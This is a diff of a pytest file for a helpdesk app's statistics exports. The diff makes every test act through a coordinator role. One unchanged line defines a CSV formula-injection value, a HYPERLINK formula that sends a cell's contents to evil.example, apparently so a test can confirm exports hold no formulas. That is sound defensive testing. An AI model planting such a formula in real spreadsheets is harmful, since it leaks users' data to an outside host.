@@ -15,7 +15,15 @@ import openpyxl
 import pytest
 
 from tests.helpers.helpdesk_servers import REPO, FakeClock, LiveServer, Seeded, StaffApi
-from tests.helpers.stats_seed import FEBRUARY, Month, Visit, fold_on_kiosk, seed_month, upload
+from tests.helpers.stats_seed import (
+    COORDINATOR,
+    FEBRUARY,
+    Month,
+    Visit,
+    fold_on_kiosk,
+    seed_month,
+    upload,
+)
 
 FEB = {"start": "2026-02-01", "end": "2026-02-28", "lang": "en"}
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
@@ -48,7 +56,7 @@ def _get(staff: StaffApi, kind: str) -> bytes:
 
 
 def test_csv_has_the_columns_the_figures_and_no_formula(live: LiveServer, month: Month) -> None:
-    staff = StaffApi(live.url)
+    staff = StaffApi(live.url, COORDINATOR)
     data = _get(staff, "csv")
     assert data.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM: Excel reads ä and ö
     rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
@@ -71,7 +79,7 @@ def test_csv_has_the_columns_the_figures_and_no_formula(live: LiveServer, month:
 def test_xlsx_opens_with_its_sheets_figures_and_native_charts(
     live: LiveServer, month: Month
 ) -> None:
-    staff = StaffApi(live.url)
+    staff = StaffApi(live.url, COORDINATOR)
     data = _get(staff, "xlsx")
     book = openpyxl.load_workbook(io.BytesIO(data))
     assert book.sheetnames[0] == "Statistics"
@@ -105,7 +113,7 @@ def test_xlsx_opens_with_its_sheets_figures_and_native_charts(
 
 
 def test_pdf_report_renders(live: LiveServer, month: Month, tmp_path: Path) -> None:
-    staff = StaffApi(live.url)
+    staff = StaffApi(live.url, COORDINATOR)
     data = _get(staff, "pdf")
     assert data.startswith(b"%PDF-")
     pdf = tmp_path / "report.pdf"
@@ -125,7 +133,7 @@ def test_pdf_report_renders(live: LiveServer, month: Month, tmp_path: Path) -> N
 
 
 def test_one_chart_as_svg_png_and_pdf(live: LiveServer, month: Month) -> None:
-    staff = StaffApi(live.url)
+    staff = StaffApi(live.url, COORDINATOR)
     for fmt, start in (("svg", b"<svg"), ("png", b"\x89PNG"), ("pdf", b"%PDF")):
         response = staff.http.get(f"/api/v1/staff/stats/charts/language.{fmt}", params=FEB)
         assert response.status_code == 200, fmt
@@ -142,7 +150,7 @@ def test_without_the_stats_extra_tables_and_csv_still_work(
 
     for module in ("altair", "vl_convert", "xlsxwriter", "fpdf"):
         monkeypatch.setitem(sys.modules, module, None)  # "import altair" now fails
-    staff = StaffApi(live.url)
+    staff = StaffApi(live.url, COORDINATOR)
     report = staff.http.get("/api/v1/staff/stats", params=FEB).json()
     assert report["charts_missing"] is True and report["charts"] is None
     assert report["rendered"][0]["rows"][0]["values"] == [
